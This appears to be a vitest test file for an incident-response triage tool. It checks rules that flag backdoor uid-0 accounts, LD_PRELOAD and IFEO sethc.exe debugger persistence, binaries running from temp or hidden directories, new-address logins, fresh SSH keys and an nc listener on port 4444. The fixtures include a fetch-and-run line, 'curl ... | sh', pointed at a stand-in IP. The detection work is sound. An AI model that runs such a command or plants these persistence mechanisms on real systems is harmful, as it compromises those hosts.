import { readdirSync, readFileSync } from 'node:fs';
import type {
  ArtifactRecord,
  LoginEvent,
  NetworkConnection,
  Process,
  SshAuthorizedKey,
  StartupItem,
  UserAccount,
} from '@triage/artifact-schema';
import { describe, expect, it } from 'vitest';
import { commandPaths, suspiciousExecutablePath, windowsCommandPaths } from './hits.js';
import { type CaseStore, type Hit, type HitRule, hits } from './index.js';
import { type StandInCollection, storeWith as storeWithStandIns } from './testing/stand-in.js';

const at = '2026-11-23T16:00:00.000Z';
const endedAt = '2026-11-23T16:05:00.000Z';

type Fake = StandInCollection;
const storeWith = (...collections: Fake[]): Promise<CaseStore> =>
  storeWithStandIns({ now: () => new Date(at) }, ...collections);

const base = { source: '/test', collected_at: at } as const;

function account(username: string, uid: number): UserAccount {
  return {
    ...base,
    kind: 'user_account',
    username,
    uid,
    gid: uid,
    gecos: '',
    home: `/home/${username}`,
    shell: '/bin/bash',
    password_status: 'set',
    last_change: null,
    min_days: null,
    max_days: null,
    warn_days: null,
    inactive_days: null,
    expires: null,
  };
}

function startup(over: Partial<StartupItem>): StartupItem {
  return {
    ...base,
    kind: 'startup_item',
    mechanism: 'systemd_unit',
    name: 'x.service',
    path: '/etc/systemd/system/x.service',
    user: null,
    command: null,
    executable: null,
    schedule: null,
    enabled: true,
    line: null,
    file_mtime: null,
    ...over,
  };
}

function proc(over: Partial<Process>): Process {
  return {
    ...base,
    kind: 'process',
    pid: 100,
    ppid: 1,
    name: 'x',
    state: 'S',
    uid: 0,
    user: 'root',
    exe: null,
    exe_deleted: false,
    cmdline: [],
    cwd: '/',
    start_time: null,
    ...over,
  };
}

function login(over: Partial<LoginEvent>): LoginEvent {
  return {
    ...base,
    kind: 'login_event',
    event: 'login',
    time: null,
    user: 'alice',
    terminal: 'pts/0',
    remote_host: null,
    remote_address: null,
    pid: null,
    success: true,
    method: null,
    message: null,
    ...over,
  };
}

function key(over: Partial<SshAuthorizedKey>): SshAuthorizedKey {
  return {
    ...base,
    kind: 'ssh_authorized_key',
    user: 'root',
    path: '/root/.ssh/authorized_keys',
    line: 1,
    key_type: 'ssh-ed25519',
    fingerprint: 'SHA256:abc',
    comment: null,
    options: null,
    file_mtime: null,
    ...over,
  };
}

function socket(over: Partial<NetworkConnection>): NetworkConnection {
  return {
    ...base,
    kind: 'network_connection',
    protocol: 'tcp',
    family: 'ipv4',
    local_address: '0.0.0.0',
    local_port: 22,
    remote_address: '0.0.0.0',
    remote_port: 0,
    state: 'LISTEN',
    uid: 0,
    inode: 1,
    pid: null,
    process_name: null,
    ...over,
  };
}

/** The hits of one rule, as (host, message-free) summaries plus the record. */
async function run(rule: HitRule, ...collections: Fake[]): Promise<Hit[]> {
  const store = await storeWith(...collections);
  try {
    return hits(store, { rules: [rule] });
  } finally {
    store.close();
  }
}

describe('uid0-not-root', () => {
  it('flags a uid-0 account other than root, not root itself or other uids', async () => {
    const found = await run('uid0-not-root', {
      collection_id: 'c',
      records: [account('root', 0), account('alice', 1000), account('sysupdate', 0)],
    });
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      rule: 'uid0-not-root',
      severity: 'high',
      case: 'IR-1',
      host: 'ws-17',
      kind: 'user_account',
      record: { username: 'sysupdate', uid: 0 },
    });
    expect(found[0]?.message).toContain('sysupdate');
  });
});

describe('ld-preload', () => {
  it('flags every ld_preload startup item and nothing else', async () => {
    const found = await run('ld-preload', {
      collection_id: 'c',
      records: [
        startup({
          mechanism: 'ld_preload',
          name: '/etc/ld.so.preload:1',
          path: '/etc/ld.so.preload',
          command: '/usr/lib/libsystem.so',
          executable: '/usr/lib/libsystem.so',
        }),
        startup({ mechanism: 'cron', name: '/etc/crontab:1', command: 'run-parts /etc/cron.hourly' }),
      ],
    });
    expect(found.map((h) => [h.rule, h.severity, (h.record as StartupItem).mechanism])).toEqual([
      ['ld-preload', 'high', 'ld_preload'],
    ]);
    expect(found[0]?.message).toContain('/usr/lib/libsystem.so');
  });
});

describe('ifeo-debugger', () => {
  it('flags every Image File Execution Options debugger and nothing else', async () => {
    const found = await run('ifeo-debugger', {
      collection_id: 'c',
      records: [
        startup({
          source: 'C:\\Windows\\System32\\config\\SOFTWARE',
          mechanism: 'ifeo_debugger',
          name: 'sethc.exe',
          path: 'C:\\Windows\\System32\\config\\SOFTWARE',
          command: 'C:\\Windows\\System32\\cmd.exe',
          executable: 'C:\\Windows\\System32\\cmd.exe',
          registry_key:
            'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe',
          registry_value: 'Debugger',
        }),
        startup({ mechanism: 'run_key', name: 'SecurityHealth', command: 'SecurityHealthSystray.exe' }),
      ],
    });
    expect(found.map((h) => [h.rule, h.severity, (h.record as StartupItem).name])).toEqual([
      ['ifeo-debugger', 'high', 'sethc.exe'],
    ]);
    expect(found[0]?.message).toBe(
      'starting sethc.exe runs C:\\Windows\\System32\\cmd.exe instead (Image File Execution Options debugger in HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe)',
    );
  });
});

describe('runs-from-temp', () => {
  it('classifies Windows paths under the temp folders, the public profile and the recycle bin', () => {
    expect(suspiciousExecutablePath('C:\\Windows\\Temp\\x.exe')).toBe('under C:\\Windows\\Temp');
    expect(suspiciousExecutablePath('\\??\\d:\\WINDOWS\\TEMP\\x.exe')).toBe('under C:\\Windows\\Temp');
    expect(suspiciousExecutablePath('C:\\Users\\bob\\AppData\\Local\\Temp\\a\\b.exe')).toBe(
      "under a user's AppData\\Local\\Temp",
    );
    expect(suspiciousExecutablePath('C:\\Users\\Public\\policyrun.exe')).toBe('under C:\\Users\\Public');
    expect(suspiciousExecutablePath('C:\\$Recycle.Bin\\S-1-5-21-1\\x.exe')).toBe('under the recycle bin');
    expect(suspiciousExecutablePath('%TEMP%\\stage.exe')).toBe('under %TEMP%');
    expect(suspiciousExecutablePath('C:\\Windows\\Temp')).toBeNull();
    expect(suspiciousExecutablePath('C:\\Windows\\TempFiles\\x.exe')).toBeNull();
    expect(suspiciousExecutablePath('C:\\Windows\\System32\\cmd.exe')).toBeNull();
    expect(suspiciousExecutablePath('C:\\Users\\Public')).toBeNull();
  });

  it('takes Windows paths from a command line: quoted, with a drive, or starting with a variable', () => {
    expect(
      windowsCommandPaths(
        '"C:\\Program Files\\VMware\\vmtoolsd.exe" -n vmusr & %TEMP%\\x.exe,C:\\Users\\Public\\y.dll',
      ),
    ).toEqual(['C:\\Program Files\\VMware\\vmtoolsd.exe', '%TEMP%\\x.exe', 'C:\\Users\\Public\\y.dll']);
    expect(windowsCommandPaths('cmd.exe /c del /q C:\\Windows\\Temp\\stage.tmp')).toEqual([
      'C:\\Windows\\Temp\\stage.tmp',
    ]);
    expect(windowsCommandPaths('explorer.exe')).toEqual([]);
  });

  it('flags Windows startup items whose program or command is under a temp folder', async () => {
    const found = await run('runs-from-temp', {
      collection_id: 'c',
      records: [
        startup({
          mechanism: 'run_once_key',
          name: 'Cleanup',
          path: 'C:\\Windows\\System32\\config\\SOFTWARE',
          command: 'cmd.exe /c del /q C:\\Windows\\Temp\\stage.tmp',
          executable: 'C:\\Windows\\System32\\cmd.exe',
        }),
        startup({
          mechanism: 'run_key',
          name: '1',
          path: 'C:\\Windows\\System32\\config\\SOFTWARE',
          command: 'C:\\Users\\Public\\policyrun.exe',
          executable: 'C:\\Users\\Public\\policyrun.exe',
        }),
        startup({
          mechanism: 'run_key',
          name: 'VMware User Process',
          path: 'C:\\Windows\\System32\\config\\SOFTWARE',
          command: '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr',
          executable: 'C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe',
        }),
      ],
    });
    expect(found.map((h) => (h.record as StartupItem).name)).toEqual(['Cleanup', '1']);
    expect(found[1]?.message).toContain('C:\\Users\\Public\\policyrun.exe (under C:\\Users\\Public)');
  });

  it('classifies paths: under a temp directory or inside a hidden directory', () => {
    expect(suspiciousExecutablePath('/var/tmp/.x/dbus-update')).toBe(
      'under /var/tmp, in hidden directory .x',
    );
    expect(suspiciousExecutablePath('/tmp/kworker')).toBe('under /tmp');
    expect(suspiciousExecutablePath('/dev/shm/a')).toBe('under /dev/shm');
    expect(suspiciousExecutablePath('/home/bob/.cache/x')).toBe('in hidden directory .cache');
    expect(suspiciousExecutablePath('/tmp')).toBeNull();
    expect(suspiciousExecutablePath('/tmpfoo/x')).toBeNull();
    expect(suspiciousExecutablePath('/etc/cron.daily/.placeholder')).toBeNull();
    expect(suspiciousExecutablePath('/usr/lib/../bin/x')).toBeNull();
    expect(suspiciousExecutablePath('relative/.x/y')).toBeNull();
  });

  it('takes paths from a command line but not redirection targets', () => {
    expect(commandPaths(`sh -c '/dev/shm/x --y' >/tmp/log 2>&1`)).toEqual(['/dev/shm/x']);
    expect(commandPaths('/usr/bin/backup > /tmp/backup.log; LD_PRELOAD=/tmp/x.so /bin/true')).toEqual([
      '/usr/bin/backup',
      '/tmp/x.so',
      '/bin/true',
    ]);
    expect(commandPaths('curl -fsSL http://198.51.100.23/x.sh | sh')).toEqual([]);
  });

  it('flags startup items and processes that run from temp or hidden directories', async () => {
    const found = await run('runs-from-temp', {
      collection_id: 'c',
      records: [
        startup({
          name: 'dbus-update.service',
          executable: '/var/tmp/.x/dbus-update',
          command: '/var/tmp/.x/dbus-update --daemon',
        }),
        startup({ name: 'ssh.service', executable: '/usr/sbin/sshd', command: '/usr/sbin/sshd -D' }),
        startup({
          mechanism: 'cron',
          name: 'tidy',
          executable: '/usr/bin/find',
          command: 'find /tmp -delete',
        }),
        startup({ mechanism: 'cron', name: 'sh', executable: '/bin/sh', command: "sh -c '/dev/shm/x'" }),
        startup({
          mechanism: 'cron',
          name: 'backup',
          executable: '/usr/bin/backup',
          command: '/usr/bin/backup >/tmp/backup.log 2>&1',
        }),
        startup({
          mechanism: 'cron',
          name: '.placeholder',
          executable: '/etc/cron.daily/.placeholder',
          command: '/etc/cron.daily/.placeholder',
        }),
        proc({ pid: 4242, name: 'kworker', exe: '/tmp/kworker' }),
        proc({ pid: 7, name: 'bash', exe: '/usr/bin/bash' }),
        proc({ pid: 8, name: 'miner', exe: '/home/bob/.cache/x/miner' }),
        proc({ pid: 9, name: 'kthreadd', exe: null }),
      ],
    });
    expect(
      found.map((h) => [
        h.kind,
        h.kind === 'process' ? (h.record as Process).pid : (h.record as StartupItem).name,
      ]),
    ).toEqual([
      ['startup_item', 'dbus-update.service'],
      ['startup_item', 'sh'],
      ['process', 4242],
      ['process', 8],
    ]);
    expect(found.every((h) => h.severity === 'high')).toBe(true);
    expect(found[0]?.message).toContain('/var/tmp/.x/dbus-update (under /var/tmp, in hidden directory .x)');
  });
});

describe('deleted-exe', () => {
  it('flags processes whose executable is deleted', async () => {
    const found = await run('deleted-exe', {
      collection_id: 'c',
      records: [
        proc({ pid: 1, name: 'systemd', exe: '/usr/lib/systemd/systemd' }),
        proc({ pid: 666, name: 'x', exe: '/usr/local/bin/.sysupd', exe_deleted: true, cmdline: ['x', '-d'] }),
      ],
    });
    expect(found.map((h) => (h.record as Process).pid)).toEqual([666]);
    expect(found[0]).toMatchObject({ rule: 'deleted-exe', severity: 'high', kind: 'process' });
    expect(found[0]?.message).toContain('deleted executable /usr/local/bin/.sysupd: x -d');
  });
});

describe('login-new-address', () => {
  const t = (iso: string) => `${iso}.000Z`;
  it('flags an address first seen after the host baseline, once, on its earliest record', async () => {
    const found = await run(
      'login-new-address',
      {
        collection_id: 'c-ws',
        records: [
          // Baseline: the first 24 hours from the earliest successful remote login.
          login({
            time: t('2025-12-21T09:00:01'),
            remote_address: '203.0.113.10',
            source: '/var/log/auth.log.2.gz',
          }),
          login({ time: t('2025-12-22T08:00:00'), remote_address: '203.0.113.11' }),
          // Known addresses later: not new (IPv4-mapped and case differences ignored).
          login({ time: t('2026-11-20T09:15:02'), remote_address: '::ffff:203.0.113.10' }),
          login({ time: t('2026-11-21T09:15:02'), remote_address: '203.0.113.11' }),
          // Not successful logins: never count.
          login({
            event: 'failed_login',
            success: false,
            time: t('2026-11-22T01:55:12'),
            remote_address: '198.51.100.23',
          }),
          login({
            event: 'login',
            success: false,
            time: t('2026-11-22T01:55:13'),
            remote_address: '198.51.100.24',
          }),
          login({
            event: 'last_login',
            success: null,
            time: t('2026-11-22T01:00:00'),
            remote_address: '192.0.2.77',
          }),
          // Local login and a login without time: ignored.
          login({ time: t('2026-11-22T03:00:00'), remote_address: null, terminal: 'tty1' }),
          login({ time: null, remote_address: '192.0.2.99' }),
          // The intruder, recorded three times (wtmp, utmp, auth.log): one hit, on the earliest.
          login({
            time: t('2026-11-22T02:13:05'),
            remote_address: '2001:DB8::5',
            user: 'sysupdate',
            source: '/var/log/wtmp',
          }),
          login({
            time: t('2026-11-22T02:13:04'),
            remote_address: '2001:db8::5',
            user: 'sysupdate',
            source: '/var/log/auth.log',
          }),
          login({
            time: t('2026-11-22T02:13:05'),
            remote_address: '2001:db8::5',
            user: 'sysupdate',
            source: '/run/utmp',
          }),
        ],
      },
      // Another host: its own baseline, so the same address on its first day is not new.
      {
        collection_id: 'c-db',
        host: 'db-1',
        records: [
          login({ time: t('2026-11-22T02:00:00'), remote_address: '2001:db8::5' }),
          login({ time: t('2026-11-22T20:00:00'), remote_address: '198.51.100.1' }),
        ],
      },
    );
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      rule: 'login-new-address',
      severity: 'medium',
      host: 'ws-17',
      kind: 'login_event',
      record: { source: '/var/log/auth.log', time: t('2026-11-22T02:13:04') },
    });
    expect(found[0]?.message).toBe(
      'first successful login from 2001:db8::5 as sysupdate at 2026-11-22T02:13:04.000Z, 335 days after ' +
        "the host's earliest recorded remote login (2025-12-21T09:00:01.000Z); 3 successful login records from it",
    );
  });

  it('a host with only first-day logins has no hits', async () => {
    const found = await run('login-new-address', {
      collection_id: 'c',
      records: [
        login({ time: '2026-11-22T00:00:00.000Z', remote_address: '192.0.2.1' }),
        login({ time: '2026-11-22T23:59:59.999Z', remote_address: '192.0.2.2' }),
      ],
    });
    expect(found).toEqual([]);
  });
});

describe('authorized-keys-recent', () => {
  const records = [
    key({
      line: 1,
      file_mtime: '2026-11-22T02:16:02.000Z',
      comment: 'x@kali',
      options: 'from="198.51.100.0/24"',
    }),
    key({
      line: 2,
      user: 'alice',
      path: '/home/alice/.ssh/authorized_keys',
      file_mtime: '2026-03-14T09:00:00.000Z',
    }),
    key({ line: 3, file_mtime: '2026-11-16T16:05:00.000Z' }), // exactly 7 days before ended_at
    key({ line: 4, file_mtime: '2026-11-16T16:04:59.999Z' }), // just outside
    key({ line: 5, file_mtime: null }),
    key({ line: 6, file_mtime: '2026-11-24T00:00:00.000Z' }), // after the collection ended
  ];

  it('flags keys whose file changed within 7 days before the collection ended, or later', async () => {
    const found = await run('authorized-keys-recent', { collection_id: 'c', records });
    expect(found.map((h) => (h.record as SshAuthorizedKey).line)).toEqual([1, 3, 6]);
    expect(found[0]).toMatchObject({ severity: 'medium', kind: 'ssh_authorized_key' });
    expect(found[0]?.message).toContain(`1.6 days before the collection ended (${endedAt})`);
    expect(found[0]?.message).toContain('with options from="198.51.100.0/24"');
    expect(found[2]?.message).toContain('after the collection ended');
  });

  it('takes the number of days as an option', async () => {
    const store = await storeWith({ collection_id: 'c', records });
    try {
      const lines = (days: number) =>
        hits(store, { rules: ['authorized-keys-recent'], authorizedKeyDays: days }).map(
          (h) => (h.record as SshAuthorizedKey).line,
        );
      expect(lines(1)).toEqual([6]);
      expect(lines(365)).toEqual([1, 2, 3, 4, 6]);
    } finally {
      store.close();
    }
  });
});

describe('unusual-listener', () => {
  const records = [
    socket({ local_port: 22, process_name: 'sshd', pid: 800 }),
    socket({ local_port: 4444, process_name: 'nc', pid: 4242 }),
    socket({ local_address: '127.0.0.1', local_port: 6010, process_name: 'sshd', pid: 900 }),
    socket({ family: 'ipv6', local_address: '::', local_port: 8080 }),
    socket({ local_port: 4444, remote_address: '198.51.100.23', remote_port: 50000, state: 'ESTABLISHED' }),
    socket({ protocol: 'udp', local_port: 9999, state: 'UNCONN' }),
    socket({ protocol: 'udp', local_port: 5353, state: 'UNCONN' }),
  ];

  it('flags LISTEN sockets on ports outside the well-known list; loopback ones as low', async () => {
    const found = await run('unusual-listener', { collection_id: 'c', records });
    expect(found.map((h) => [h.severity, (h.record as NetworkConnection).local_port])).toEqual([
      ['medium', 4444],
      ['medium', 8080],
      ['low', 6010],
    ]);
    expect(found.map((h) => h.message)).toEqual([
      'tcp listener on 0.0.0.0:4444 by nc (pid 4242), uid 0',
      'tcp listener on [::]:8080 by an unknown process, uid 0',
      'tcp listener on 127.0.0.1:6010 (loopback only) by sshd (pid 900), uid 0',
    ]);
  });

  it('takes the expected ports as an option', async () => {
    const store = await storeWith({ collection_id: 'c', records });
    try {
      const found = hits(store, { rules: ['unusual-listener'], expectedPorts: [22, 4444, 6010] });
      expect(found.map((h) => (h.record as NetworkConnection).local_port)).toEqual([8080]);
    } finally {
      store.close();
    }
  });
});

describe('hits', () => {
  it('orders by severity, then rule, host and artifact; each hit names its artifact row', async () => {
    const store = await storeWith(
      {
        collection_id: 'c-1',
        records: [
          socket({ local_port: 31337 }),
          socket({ local_address: '127.0.0.1', local_port: 31338 }),
          account('toor', 0),
          proc({ pid: 5, exe: '/tmp/x', exe_deleted: true }),
        ],
      },
      { collection_id: 'c-2', host: 'db-1', records: [account('admin2', 0)] },
    );
    try {
      const before = store.db.prepare('SELECT total_changes()').pluck().get();
      const found = hits(store);
      expect(store.db.prepare('SELECT total_changes()').pluck().get()).toBe(before);
      expect(found.map((h) => [h.severity, h.rule, h.host])).toEqual([
        ['high', 'uid0-not-root', 'db-1'],
        ['high', 'uid0-not-root', 'ws-17'],
        ['high', 'runs-from-temp', 'ws-17'],
        ['high', 'deleted-exe', 'ws-17'],
        ['medium', 'unusual-listener', 'ws-17'],
        ['low', 'unusual-listener', 'ws-17'],
      ]);
      const row = store.db.prepare('SELECT a.id, a.kind, a.json FROM artifacts a WHERE a.id = ?');
      for (const hit of found) {
        const stored = row.get(hit.artifactId) as { kind: string; json: string };
        expect(stored.kind).toBe(hit.kind);
        expect(JSON.parse(stored.json)).toEqual(hit.record);
      }
      expect(hits(store, { rules: ['ld-preload'] })).toEqual([]);
    } finally {
      store.close();
    }
  });

  it('an empty database has no hits', async () => {
    const store = await storeWith();
    expect(hits(store)).toEqual([]);
    store.close();
  });

  it('rejects unknown rules and bad parameters with INVALID_ARGUMENT', async () => {
    const store = await storeWith();
    try {
      const invalid = expect.objectContaining({ code: 'INVALID_ARGUMENT' });
      expect(() => hits(store, { rules: ['nope' as HitRule] })).toThrow(invalid);
      expect(() => hits(store, { authorizedKeyDays: -1 })).toThrow(invalid);
      expect(() => hits(store, { authorizedKeyDays: Number.NaN })).toThrow(invalid);
      expect(() => hits(store, { expectedPorts: [70000] })).toThrow(invalid);
    } finally {
      store.close();
    }
  });

  it('finds the story of the linux-root fixture', async () => {
    const dir = new URL('../../../test-fixtures/linux-root/expected/', import.meta.url);
    const records = readdirSync(dir)
      .filter((name) => name.endsWith('.ndjson'))
      .sort()
      .flatMap((name) =>
        readFileSync(new URL(name, dir), 'utf8')
          .split('\n')
          .filter((line) => line !== '')
          .map((line) => JSON.parse(line) as ArtifactRecord),
      );
    const store = await storeWith({ collection_id: 'web01', host: 'web01', records });
    try {
      const found = hits(store);
      expect(
        found.map((h) => {
          const r = h.record as unknown as Record<string, unknown>;
          return [h.rule, r.username ?? r.name ?? r.remote_address ?? r.line];
        }),
      ).toEqual([
        ['uid0-not-root', 'sysupdate'],
        ['ld-preload', '/etc/ld.so.preload:1'],
        ['runs-from-temp', 'dbus-update.service'],
        ['runs-from-temp', 'a0000301c89d98'],
        ['login-new-address', '2001:db8::5'],
        ['authorized-keys-recent', 2],
        ['authorized-keys-recent', 3],
      ]);
    } finally {
      store.close();
    }
  });
});
